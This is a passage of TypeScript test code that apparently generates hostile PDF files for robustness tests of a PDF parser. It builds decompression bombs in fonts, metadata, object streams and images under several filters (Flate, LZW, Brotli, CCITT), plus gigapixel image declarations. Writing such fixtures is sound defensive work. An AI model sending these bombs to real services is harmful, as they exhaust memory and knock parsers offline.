    ['font-file', onePage({ font: '<< /Type /Font /Subtype /TrueType /BaseFont /Bom /FirstChar 32 /LastChar 126 /FontDescriptor 6 0 R >>', extra: ['<< /Type /FontDescriptor /FontName /Bom /Flags 32 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 /FontFile2 7 0 R >>', stream('/Filter /FlateDecode', zlibBomb(BOMB_BYTES))] })],
    ['tounicode', onePage({ font: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R >>', extra: [stream('/Filter /FlateDecode', zlibBomb(BOMB_BYTES, Buffer.from('/CIDInit /ProcSet findresource begin 12 dict begin begincmap ')))] })],
    ['metadata', onePage({ catalog: '/Metadata 6 0 R', extra: [stream('/Type /Metadata /Subtype /XML /Filter /FlateDecode', zlibBomb(BOMB_BYTES, Buffer.from('<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">')))] })],
    ['object-stream', objectStreamBomb()],
  ];
  return cases.map(([name, bytes]) => ({ name: `stream-bomb-${name}`, kind: 'stream-bomb', bytes }));
}

/**
 * The catalog, page tree, page and font in an object stream that goes on with
 * a gigabyte of zeros after them (pdf.js inflates an object stream whole to
 * read its last object), found through a cross-reference stream.
 */
function objectStreamBomb(): Buffer {
  const objects = ['<< /Type /Catalog /Pages 3 0 R >>', '<< /Type /Pages /Kids [4 0 R] /Count 1 >>', '<< /Type /Page /Parent 3 0 R /MediaBox [0 0 595 842] /Contents 6 0 R /Resources << /Font << /F1 5 0 R >> >> >>', HELVETICA];
  let at = 0;
  const index = objects.map((o, i) => {
    const row = `${i + 2} ${at}`;
    at += o.length + 1;
    return row;
  });
  const header = `${index.join(' ')} `;
  const data = zlibBomb(BOMB_BYTES, Buffer.from(`${header}${objects.join('\n')}\n`, 'latin1'));
  const parts = [PDF_HEAD];
  let length = PDF_HEAD.length;
  const offsetOf: number[] = [];
  const add = (num: number, body: Buffer) => {
    offsetOf[num] = length;
    const chunk = objectChunk(num, body);
    parts.push(chunk);
    length += chunk.length;
  };
  add(1, stream(`/Type /ObjStm /N ${objects.length} /First ${header.length} /Filter /FlateDecode`, data));
  add(6, stream('', TEXT));
  // Entries of 1 + 4 + 2 bytes: type 1 (offset, generation) or 2 (object stream, index in it).
  const entry = (type: number, field2: number, field3: number) => {
    const row = Buffer.alloc(7);
    row.writeUInt8(type, 0);
    row.writeUInt32BE(field2, 1);
    row.writeUInt16BE(field3, 5);
    return row;
  };
  const xrefAt = length;
  const rows = [entry(0, 0, 0xffff), entry(1, offsetOf[1]!, 0), ...objects.map((_, i) => entry(2, 1, i)), entry(1, offsetOf[6]!, 0), entry(1, xrefAt, 0)];
  add(7, stream('/Type /XRef /Size 8 /W [1 4 2] /Root 2 0 R', Buffer.concat(rows)));
  parts.push(Buffer.from(`startxref\n${xrefAt}\n%%EOF\n`, 'latin1'));
  return Buffer.concat(parts);
}

/**
 * Images that inflate to gigabytes, or declare gigapixels, in every filter
 * pdf.js decodes images with; each on a page that also has text. Text
 * extraction reads no images, and reading glyph positions leaves them out:
 * these must come out as ordinary documents, quickly.
 */
export function imageBombs(): HostilePdf[] {
  const image = (dict: string, data: Buffer, extra: Body[] = []) =>
    onePage({
      page: '/Resources << /XObject << /I 6 0 R >> /Font << /F1 5 0 R >> >>',
      content: stream('', `${TEXT} q 500 0 0 700 50 50 cm /I Do Q`),
      extra: [stream(`/Type /XObject /Subtype /Image ${dict}`, data), ...extra],
    });
  const grey = (size: number) => `/Width ${size} /Height ${size} /ColorSpace /DeviceGray /BitsPerComponent 8`;
  /** An inline image whose data is a Flate bomb, in a content stream. */
  const inline = (before: string, dict: string) => Buffer.concat([Buffer.from(`${before} BI ${dict} /F /Fl ID\n`, 'latin1'), zlibBomb(BOMB_BYTES), Buffer.from('\nEI Q', 'latin1')]);
  const cases: Array<[string, Buffer]> = [
    ['flate-small-image', image(`${grey(100)} /Filter /FlateDecode`, zlibBomb(BOMB_BYTES))],
    ['flate-32k-pixels', image(`${grey(32768)} /Filter /FlateDecode`, zlibBomb(BOMB_BYTES))],
    ['flate-smask', image(`${grey(100)} /SMask 7 0 R`, Buffer.alloc(10_000, 0x80), [stream(`/Type /XObject /Subtype /Image ${grey(100)} /Filter /FlateDecode`, zlibBomb(BOMB_BYTES))])],
    ['lzw', image(`${grey(32768)} /Filter [/FlateDecode /LZWDecode]`, flate(lzwBomb(BOMB_BYTES)))],
    ['runlength', image(`${grey(32768)} /Filter [/FlateDecode /RunLengthDecode]`, flate(runLengthBomb(BOMB_BYTES)))],
    ['ccitt', image('/Width 100000 /Height 100000 /ImageMask true /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 100000 /Rows 100000 >>', ccittBomb(100_000))],
    ['brotli', image(`${grey(16384)} /Filter /BrotliDecode`, brotliBomb(BOMB_BYTES / 2))],
    ['dct', image(`${grey(65500)} /Filter /DCTDecode`, jpegOfSize(65500))],
    ['jpx', image('/Width 60000 /Height 60000 /Filter /JPXDecode', jpxOfSize(60000))],
    ['jbig2', image('/Width 65536 /Height 65536 /ImageMask true /Filter /JBIG2Decode', jbig2OfSize(65536))],
    ['inline-flate', onePage({ content: stream('', inline(`${TEXT} q 100 0 0 100 0 0 cm`, '/W 100 /H 100 /CS /G /BPC 8')) })],
    [
      'type3-glyph',
      onePage({
        font: '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [0.001 0 0 0.001 0 0] /CharProcs << /a 6 0 R >> /Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [1000] >>',
        content: stream('', 'BT /F1 12 Tf 72 720 Td (aaaa) Tj ET'),
        extra: [stream('', inline('1000 0 0 0 1000 1000 d1 q 1000 0 0 1000 0 0 cm', '/W 100 /H 100 /IM true'))],
      }),
    ],
  ];
  return cases.map(([name, bytes]) => ({ name: `image-bomb-${name}`, kind: 'image-bomb', bytes }));
}

export function hostilePdfs(real: Buffer = fs.readFileSync(REAL_PDF)): HostilePdf[] {
  return [
    ...truncations(real),
    ...byteFlips(real),
    ...pageTrees(),
    ...pageBoxes(),
    ...xrefAndTrailer(),
    ...fonts(),
    ...contentStreams(),
    ...nesting(),
    ...actions(),
    ...encrypted(),
    ...streamBombs(),
    ...imageBombs(),
  ];
}
